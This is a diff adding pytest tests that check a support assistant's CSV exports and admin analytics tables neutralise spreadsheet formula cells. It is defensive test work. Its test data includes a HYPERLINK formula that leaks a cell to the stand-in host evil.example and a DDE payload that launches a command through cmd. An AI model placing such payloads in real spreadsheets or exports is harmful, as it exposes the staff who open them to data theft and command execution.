@@ -178,3 +178,53 @@ def test_parser_limits_are_named_not_reported_as_a_crash(tmp_path: Path) -> None
         parse_isolated(path)
     assert "crashed" not in err.value.reason
     assert err.value.reason.startswith("line 2: a field is longer than 131,072 characters (the CSV field limit)")
+
+
+# -- formulas in what staff download as CSV ---------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/leak?d="&C2,"Refund status")',
+        "+1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+        "  =1+1",
+    ],
+)
+def test_formula_cells_are_neutralised(cell: str) -> None:
+    from core.exports import neutralise_cell, neutralise_rows
+
+    assert neutralise_cell(cell) == "'" + cell
+    assert neutralise_rows([{"question": cell, "times": -3}]) == [{"question": "'" + cell, "times": -3}]
+
+
+@pytest.mark.parametrize("cell", ["Where is my order?", "2026-11-23", "50% off?", "'quoted'", "", "e=mc2"])
+def test_ordinary_cells_are_kept(cell: str) -> None:
+    from core.exports import neutralise_cell
+
+    assert neutralise_cell(cell) == cell
+
+
+def test_analytics_tables_hold_no_live_formula(app_env, monkeypatch: pytest.MonkeyPatch) -> None:
+    import bcrypt
+
+    formula = '=HYPERLINK("http://evil.example/leak?d="&C2,"Refund status")'
+    log = FeedbackStore(get_settings().feedback_db)
+    for n in range(3):
+        log.rate(log.record(f"s{n}", formula, "Sorry...", [], "extractive", True), 0)
+    log.record("s9", "@SUM(1,2)", "Sorry...", [], "extractive", True)
+    monkeypatch.setenv("ASSISTANT_ADMIN_PASSWORD_HASH", bcrypt.hashpw(b"staff-password", bcrypt.gensalt(4)).decode())
+    get_settings.cache_clear()
+    at = AppTest.from_file(APP, default_timeout=60).run()
+    at.switch_page("app_pages/login.py").run()
+    at.text_input[0].input("staff-password")
+    at.button[0].click().run()
+    at.switch_page("app_pages/admin_analytics.py").run()
+    assert not at.exception, at.exception
+    gaps, disliked = (frame.value for frame in at.dataframe)
+    assert list(gaps["question"]) == ["'" + formula, "'@SUM(1,2)"] and list(gaps["times"]) == [3, 1]
+    assert list(disliked["question"]) == ["'" + formula]
+    cells = [str(v) for frame in (gaps, disliked) for v in frame.to_numpy().ravel()]
+    assert not any(c.lstrip().startswith(("=", "+", "-", "@")) for c in cells)
